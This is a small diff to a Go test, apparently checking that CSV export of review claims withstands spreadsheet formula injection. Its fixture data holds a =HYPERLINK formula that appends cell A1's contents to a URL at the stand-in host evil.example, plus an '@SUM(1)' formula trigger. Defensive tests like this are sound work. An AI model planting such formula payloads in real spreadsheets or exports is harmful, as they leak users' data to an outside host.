@@ -94,7 +94,7 @@ func TestClaimCSV(t *testing.T) {
 		// write it.
 		if _, err := db.CreateClaim(ctx, mustUser(t, db, "rey"), review.NewClaim{Report: "azerbaijan",
 			Quote: "Although arms trafficking is reportedly extremely", Statement: `=HYPERLINK("http://evil.example/?"&A1,"x")`,
-			Hedge: "@SUM(1)", Confidence: review.ConfidenceLow}); err != nil {
+			Hedge: "@SUM(1)", Confidence: review.ConfidenceLow, ConfirmDuplicate: true}); err != nil {
 			t.Fatal(err)
 		}
 		claims := allClaims(t, db)
